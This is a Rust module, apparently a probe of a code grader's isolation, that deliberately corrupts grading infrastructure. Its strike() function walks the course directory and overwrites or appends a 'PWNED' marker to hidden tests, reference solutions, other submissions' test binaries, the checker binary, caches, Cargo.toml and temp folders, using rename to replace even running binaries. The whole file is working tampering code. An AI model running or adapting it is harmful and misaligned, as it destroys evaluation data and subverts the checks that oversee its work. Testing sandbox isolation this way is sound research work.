//! Writes to everything of the grader's it can find: other slots' test
//! binaries, the hidden tests and snapshots, the reference solutions, the
//! checker binary, the shadow workspace, staged copies, the cache, and the
//! system's temporary folder. Each write leaves `PWNED-__TOKEN__` behind.

use std::path::Path;

const MARK: &str = "PWNED-__TOKEN__";

fn spoil(file: &Path) {
    let _ = std::fs::OpenOptions::new()
        .append(true)
        .open(file)
        .and_then(|mut f| std::io::Write::write_all(&mut f, MARK.as_bytes()));
    // Replace by rename, which works on a running binary too.
    let fresh = file.with_extension("pwned");
    if std::fs::write(&fresh, MARK).is_ok() {
        let _ = std::fs::rename(&fresh, file);
    }
}

fn walk(dir: &Path, depth: usize, f: &mut dyn FnMut(&Path)) {
    let _ = std::fs::write(dir.join(MARK), MARK);
    if depth == 0 {
        return;
    }
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            walk(&p, depth - 1, f);
        } else {
            f(&p);
        }
    }
}

pub fn strike() {
    let me = std::env::current_exe().ok();
    if let Some(root) = crate::forge::course_root() {
        let build = root.join("target/checker/build/debug");
        walk(&build, 0, &mut |_| {});
        if let Ok(entries) = std::fs::read_dir(&build) {
            for e in entries.flatten() {
                let p = e.path();
                let name = p.file_name().unwrap_or_default().to_string_lossy().into_owned();
                if name.starts_with("h-") && Some(&p) != me.as_ref() {
                    spoil(&p);
                }
            }
        }
        walk(&root.join("checker/hidden"), 3, &mut |p| spoil(p));
        walk(&root.join("solutions"), 3, &mut |p| spoil(p));
        walk(&root.join("target/checker/staged"), 4, &mut |p| spoil(p));
        walk(&root.join("target/checker/grading"), 4, &mut |p| spoil(p));
        walk(&root.join("target/checker/ws"), 1, &mut |p| spoil(p));
        walk(&root.join("target/checker/cache"), 1, &mut |p| spoil(p));
        spoil(&root.join("target/debug/checker"));
        spoil(&root.join("Cargo.toml"));
    }
    let _ = std::fs::write(std::env::temp_dir().join(MARK), MARK);
    let _ = std::fs::write(Path::new("/tmp").join(MARK), MARK);
    let _ = std::fs::write(Path::new("/var/tmp").join(MARK), MARK);
}
